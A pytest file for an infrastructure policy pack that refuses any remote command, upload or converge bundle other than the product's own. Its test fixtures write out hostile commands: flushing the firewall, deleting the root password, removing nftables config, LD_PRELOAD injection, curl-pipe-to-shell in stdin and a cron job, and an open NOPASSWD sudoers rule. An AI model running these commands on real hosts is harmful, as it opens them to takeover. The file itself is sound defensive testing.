"""Remote commands (policy/hardening_policies/remote.py): only the product's readiness wait, host converge and
release, exactly as it builds them."""

from __future__ import annotations

import base64
import copy
from dataclasses import replace
from pathlib import Path
from typing import Any

import pulumi
import pytest

from components import firstboot
from components.config import load_stack_file
from components.firstboot import HostFile
from policy.hardening_policies.first_boot import RawFirstBoot
from policy.hardening_policies.remote import remote_shape
from policy.hardening_policies.resources import REMOTE_COMMAND, REMOTE_COPY, plain
from policy.hardening_policies.secrets import find_secrets, is_converge
from policy.hardening_policies.stack_graph import type_not_allowed
from policy.offline import Registered, StackCase, evaluate, run_case
from tests.conftest import ROOT, full_config
from tests.policy_support import DEV_STACKS, PROD, names_resource_and_fix


# --- remote-commands-are-the-products ------------------------------------------------------------------------------
def _release(case: StackCase, name_end: str) -> Registered:
    (found,) = [r for r in case.resources if r.type.startswith("command:remote:") and r.name.endswith(name_end)]
    return found


def _with_inputs(case: StackCase, reg: Registered, **inputs: Any) -> StackCase:
    """The stack with one resource's inputs (and outputs) changed; None removes an input."""
    def edit(values: dict[str, Any]) -> dict[str, Any]:
        return {k: v for k, v in {**values, **inputs}.items() if v is not None}
    return replace(case, resources=[replace(r, inputs=edit(r.inputs), outputs=edit(r.outputs)) if r is reg else r
                                    for r in case.resources])


def _mandatory(case: StackCase) -> list[tuple[str, str, str]]:
    return [(v.policy, v.resource, v.message) for v in evaluate(case) if v.mandatory]


def _connection(reg: Registered, **changes: Any) -> dict[str, Any]:
    wrapped = copy.deepcopy(reg.inputs["connection"])
    plain(wrapped).update(changes)
    return dict(wrapped)


NOT_THE_PRODUCTS = "neither the product's first-boot readiness wait"


@pytest.mark.parametrize(("edit", "why"), [
    pytest.param(lambda c: {"create": "sudo nft flush ruleset; " + c}, NOT_THE_PRODUCTS,
                 id="firewall-flushed-first"),
    pytest.param(lambda c: {"create": c + "; sudo passwd -d root"}, NOT_THE_PRODUCTS,
                 id="appended-command"),
    pytest.param(lambda c: {"update": "sudo nft flush ruleset"}, "sets update", id="update-command"),
    pytest.param(lambda c: {"delete": "sudo rm -rf /etc/nftables.conf"}, "sets delete", id="delete-command"),
    pytest.param(lambda c: {"environment": {"LD_PRELOAD": "/tmp/x.so"}}, "sets environment", id="environment"),
])
def test_a_remote_command_other_than_the_deploy_is_refused(stacks: dict[str, StackCase], edit: Any, why: str) -> None:
    """A command:remote:Command connects as the admin (sudo without password): only the product's deploy may run."""
    case = stacks[PROD]
    deploy = _release(case, "-deploy")
    ((policy, resource, message),) = _mandatory(_with_inputs(case, deploy, **edit(deploy.inputs["create"])))
    assert policy == "remote-commands-are-the-products" and deploy.name in resource
    assert why in message and names_resource_and_fix(message, deploy)


def test_the_deploy_must_run_as_the_admin_with_the_host_key_pinned(stacks: dict[str, StackCase]) -> None:
    case = stacks[PROD]
    deploy = _release(case, "-deploy")
    for change, why in (({"user": "root"}, "not as the admin account"), ({"hostKey": ""}, "host key"),
                        ({"proxy": {"host": "203.0.113.9"}}, "connection sets proxy")):
        ((policy, _, message),) = _mandatory(_with_inputs(case, deploy, connection=_connection(deploy, **change)))
        assert policy == "remote-commands-are-the-products" and why in message


@pytest.mark.parametrize(("upload", "target", "why"), [
    pytest.param("-script", "/etc/sudoers.d/00-all", "copies to '/etc/sudoers.d/00-all'", id="outside-uploads"),
    pytest.param("-script", "/home/deploy/.hvps-uploads/hvps-release-0000000000000000.sh", "copies to",
                 id="another-name-in-the-upload-dir"),
    pytest.param("-archive", None, "source is not the file", id="other-archive-content"),
    pytest.param("-script", None, "source is not the file", id="other-script-content"),
])
def test_an_upload_other_than_the_release_is_refused(stacks: dict[str, StackCase], tmp_path: Path, upload: str,
                                                     target: str | None, why: str) -> None:
    """CopyToRemote drops files as the admin: only the release script and this release's app archive, by content,
    at the paths the product names."""
    case = stacks[PROD]
    reg = _release(case, upload)
    other = tmp_path / "other"
    other.write_text("#!/bin/sh\nsudo nft flush ruleset\n")
    edited = _with_inputs(case, reg, remotePath=target) if target else _with_inputs(
        case, reg, source=pulumi.FileAsset(str(other)))
    ((policy, resource, message),) = _mandatory(edited)
    assert policy == "remote-commands-are-the-products" and reg.name in resource
    assert why in message and names_resource_and_fix(message, reg)


def test_a_remote_command_in_a_stack_without_an_app_is_refused(stacks: dict[str, StackCase]) -> None:
    deploy = _release(stacks[PROD], "-deploy")
    case = stacks["do-dev"]
    stranger = replace(deploy, urn=deploy.urn.replace(f"::{PROD}::", "::do-dev::"), parent="")
    found = _mandatory(replace(case, resources=[*case.resources, stranger]))
    assert [(p, m) for p, _, m in found if "appSource is unset" in m] and {p for p, _, _ in found} == {
        "remote-commands-are-the-products"}


def test_the_benchmark_runs_only_when_the_stack_asks_and_only_the_products_script() -> None:
    """`benchmark: true` allows its one command with the product's script on stdin; nothing else, and not without it."""
    _, case = run_case(full_config(benchmark=True), stack="bench")
    bench = _release(case, "-benchmark-run")
    assert _mandatory(case) == []
    tampered = _with_inputs(case, bench, stdin=bench.inputs["stdin"] + "\ncurl https://example.com/x | sh\n")
    ((policy, resource, message),) = _mandatory(tampered)
    assert policy == "remote-commands-are-the-products" and bench.name in resource
    assert "a script other than the product's" in message and names_resource_and_fix(message, bench)
    _, off = run_case(full_config(), stack="bench")
    stranger = replace(bench, urn=bench.urn, parent="")
    found = _mandatory(replace(off, resources=[*off.resources, stranger]))
    assert [p for p, r, _ in found if bench.name in r] == ["remote-commands-are-the-products"]


def _stdin_of(files: list[firstboot.HostFile], admin: str) -> str:
    return base64.b64encode(firstboot.bundle(firstboot.FirstBoot(tuple(files), admin))).decode()


@pytest.mark.parametrize("stack", [PROD, *DEV_STACKS])
def test_the_host_converge_is_accepted_exactly_as_the_product_builds_it(stacks: dict[str, StackCase],
                                                                        stack: str) -> None:
    """The converge (HostConfig) passes every policy: its command, its update, and its stdin (this stack's
    converge bundle, which holds no secret)."""
    case = stacks[stack]
    converge = _release(case, "-config-converge")
    assert converge.inputs["create"] == converge.inputs["update"] == firstboot.CONVERGE_COMMAND
    spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{stack}.yaml")
    assert converge.inputs["stdin"] == base64.b64encode(firstboot.converge_bundle(spec)).decode()
    assert is_converge(converge.type, converge.inputs)
    assert find_secrets(RawFirstBoot(converge.inputs["stdin"], "stdin"), pinned_host_key=False) == []
    assert [v for v in evaluate(case) if converge.name in v.resource] == []
    component = next(r for r in case.resources if r.type.endswith(":HostConfig"))
    assert not type_not_allowed(component.type) and not type_not_allowed(converge.type)
    assert type_not_allowed("command:local:Command")  # the allowlist still refuses commands on this machine


def _converge_variants(case: StackCase, converge: Registered) -> dict[str, dict[str, Any]]:
    spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{case.stack}.yaml")
    files = list(firstboot.converge_files(spec).files)
    sudoers = next(i for i, f in enumerate(files) if f.path.startswith("/etc/sudoers.d/"))
    opened = [*files[:sudoers], replace(files[sudoers], content="ALL ALL=(ALL) NOPASSWD: ALL\n"), *files[sudoers + 1:]]
    extra = [*files, HostFile("/etc/cron.d/x", "* * * * * root curl x | sh\n")]
    return {
        "sudoers-opened": {"stdin": _stdin_of(opened, spec.admin_user)},
        "extra-file": {"stdin": _stdin_of(extra, spec.admin_user)},
        "update-runs-else": {"update": "sudo nft flush ruleset"},
        "delete-command": {"delete": "sudo rm -rf /etc/nftables.conf"},
        "appended-to-converge": {"create": firstboot.CONVERGE_COMMAND + "; sudo passwd -d root"},
    }


@pytest.mark.parametrize(("variant", "why"), [
    ("sudoers-opened", "its stdin is not this stack's converge bundle"),
    ("extra-file", "its stdin is not this stack's converge bundle"),
    ("update-runs-else", "its update runs something other than"),
    ("delete-command", "sets delete"),
    ("appended-to-converge", "sets update"),  # no longer the converge: its update is what the product never sets
])
def test_a_converge_variant_is_refused(stacks: dict[str, StackCase], variant: str, why: str) -> None:
    case = stacks[PROD]
    converge = _release(case, "-config-converge")
    edited = _with_inputs(case, converge, **_converge_variants(case, converge)[variant])
    found = [(p, r, m) for p, r, m in _mandatory(edited) if p == "remote-commands-are-the-products"]
    ((_, resource, message),) = found
    assert converge.name in resource and why in message and names_resource_and_fix(message, converge)


def test_a_converge_carrying_the_host_key_is_refused_by_the_secrets_scan(stacks: dict[str, StackCase]) -> None:
    """First boot may carry the pinned host key (secret user data); the converge's stdin is a plain input: any
    private key in it, the host key included, is refused, and it is not this stack's converge bundle either."""
    case = stacks[PROD]
    converge = _release(case, "-config-converge")
    spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{PROD}.yaml")
    with_key = _stdin_of(list(firstboot.describe_first_boot(spec).files), spec.admin_user)
    found = {p: m for p, r, m in _mandatory(_with_inputs(case, converge, stdin=with_key)) if converge.name in r}
    assert set(found) == {"first-boot-no-secrets", "remote-commands-are-the-products"}
    assert "private key" in found["first-boot-no-secrets"]


def test_remote_command_check_follows_the_product(stacks: dict[str, StackCase],
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """The pack calls components/app: when the deploy command changes there, the new one passes and the old
    one is refused."""
    from components import app

    case = stacks[PROD]
    deploy = _release(case, "-deploy")
    old = deploy.inputs["create"]
    original = app.deploy_command
    monkeypatch.setattr(app, "deploy_command", lambda *a, **k: original(*a, **k) + " --verbose")
    spec = load_stack_file(ROOT / "stacks" / "Pulumi.prod.yaml")
    shape = remote_shape(spec, with_secrets=False)
    assert old + " --verbose" in shape.commands and old not in shape.commands
    assert _mandatory(_with_inputs(case, deploy, create=old + " --verbose")) == []
    ((_, _, message),) = _mandatory(case)
    assert "neither the product's first-boot readiness wait" in message


def test_git_source_release_passes_and_fails_closed_without_config(stacks: dict[str, StackCase]) -> None:
    """A git appSource: the deploy and the script upload of the product pass; without the stack's config the
    pack cannot tell what the release must be and refuses every remote command."""
    config = full_config(appSource="https://github.com/example/app.git", appRef="v1.2.3")
    _, case = run_case(config)
    commands = sorted(r.type for r in case.resources if r.type.startswith("command:"))
    # readiness wait, host converge, deploy, script
    assert commands == [REMOTE_COMMAND, REMOTE_COMMAND, REMOTE_COMMAND, REMOTE_COPY]
    assert _mandatory(case) == []
    found = [(v.policy, v.message) for v in evaluate(replace(case, config={})) if v.mandatory]
    remote = [m for p, m in found if p == "remote-commands-are-the-products"]
    assert len(remote) == 4 and all("fails closed" in m for m in remote)
